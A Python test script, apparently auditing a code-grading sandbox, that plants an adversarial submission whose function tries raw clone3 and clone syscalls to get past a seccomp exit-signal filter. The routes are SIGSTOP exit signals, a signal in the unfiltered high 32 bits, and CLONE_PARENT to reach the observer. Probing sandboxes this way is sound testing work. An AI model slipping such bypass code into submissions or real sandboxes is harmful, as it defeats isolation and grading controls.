"""A11: clone exit-signal filter routes from a check's child (observer's sandbox): clone3 (struct args, invisible to
seccomp) with exit_signal=SIGSTOP, raw clone with SIGSTOP in the low byte, with the signal in the high 32 bits of
the flags word (the filter reads only the low 32 bits; the kernel takes `unsigned long` flags but masks CSIGNAL),
CLONE_PARENT|SIGCHLD (a child handed to the observer itself) — results reported in an exception."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

TM = r'''
import os, ctypes, signal, time
_KPID = os.getpid()
def _try():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    out = []
    # clone3: struct clone_args {flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, ...}
    args = (ctypes.c_uint64 * 11)(0, 0, 0, 0, signal.SIGSTOP, 0, 0, 0, 0, 0, 0)
    r = libc.syscall(435, ctypes.byref(args), ctypes.c_size_t(88))
    if r == 0:
        os._exit(0)
    out.append(("clone3 SIGSTOP", r, os.strerror(ctypes.get_errno())))
    for name, flags in (("clone SIGSTOP", signal.SIGSTOP), ("clone hi32|SIGCHLD", (1 << 32) | signal.SIGCHLD),
                        ("clone CLONE_PARENT|SIGCHLD", 0x00008000 | signal.SIGCHLD),
                        ("clone CLONE_PARENT|0", 0x00008000)):
        r = libc.syscall(56, ctypes.c_ulong(flags), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))
        if r == 0:
            time.sleep(0.2)
            os._exit(0)
        out.append((name, r, os.strerror(ctypes.get_errno()) if r < 0 else "child %d, parent of it: observer? ppid-of-me=%d" % (r, os.getppid())))
    raise RuntimeError("DIAG " + repr(out))

def training_memory(model, optimizer):
    if os.getpid() != _KPID:
        _try()
    seen = {id(p): p for p in model.parameters()}
    w = sum(p.numel() * p.element_size() for p in seen.values())
    g = sum(p.grad.numel() * p.grad.element_size() for p in seen.values() if p.grad is not None)
    s = sum(v.numel() * v.element_size() for st in optimizer.state.values() for v in st.values() if hasattr(v, "numel"))
    return {"weights": w, "gradients": g, "optimizer_state": s, "total": w + g + s}
'''
root = build("a11", {"mallory": {"training_memory": TM}})
grade(root)
scores(root)
for s in ("aaron", "mallory", "zoe"): print(s, cell_scores(root, s))
import subprocess
print(subprocess.run("grep -rhoa 'DIAG \\[[^<]*' " + root + "/feedback | head -2", shell=True, capture_output=True, text=True).stdout)
